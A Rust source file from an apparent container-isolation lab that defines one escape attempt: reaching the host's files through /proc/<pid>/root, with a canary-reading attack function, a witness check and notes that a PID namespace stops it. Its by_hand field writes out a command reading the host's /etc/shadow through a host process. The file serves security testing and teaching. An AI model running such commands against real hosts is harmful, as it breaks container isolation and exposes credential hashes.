//! proc-pid-root: walk into the host through a process of it.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "proc-pid-root",
    stake: "The host's whole file tree, through the root directory of any of its processes.",
    story: "/proc/<pid>/root is a link to the root directory of a process, and it leads there by a \
            way that no path could: a chroot of the attacker's own does not hold it. So the host's \
            canary is one open(2) away for whoever sees a process of the host. Where there is no \
            procfs the attacker mounts one, but in a PID namespace of its own a procfs shows the \
            container's processes only, and their root is the one that the attacker has already.",
    by_hand: &["mount -t proc proc /proc", "cat /proc/1234/root/etc/shadow    # a process of the host"],
    stopped_by: &["lab1-namespaces/pid-namespace"],
    after: &[],
    man: &["proc_pid_root(5)", "pid_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "E EBBBBBB" },
    needs: &[Need::FreshHost],
    decisive: &[
        libc::SYS_mount,
        libc::SYS_fsopen,
        libc::SYS_fsconfig,
        libc::SYS_fsmount,
        libc::SYS_move_mount,
        libc::SYS_openat,
        libc::SYS_openat2,
    ],
    attack,
    class: Refusal::Process,
    witness,
};

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let victim = me.victim()?;
    me.through_procfs(victim, |me, process| me.take_canary(libc::AT_FDCWD, &[&format!("{process}/root/")]))
}

fn witness(host: &Host) -> Seen {
    if host.took("canary") {
        return Seen::Effect("the attacker has read a file of the host through /proc".into());
    }
    Seen::Nothing
}
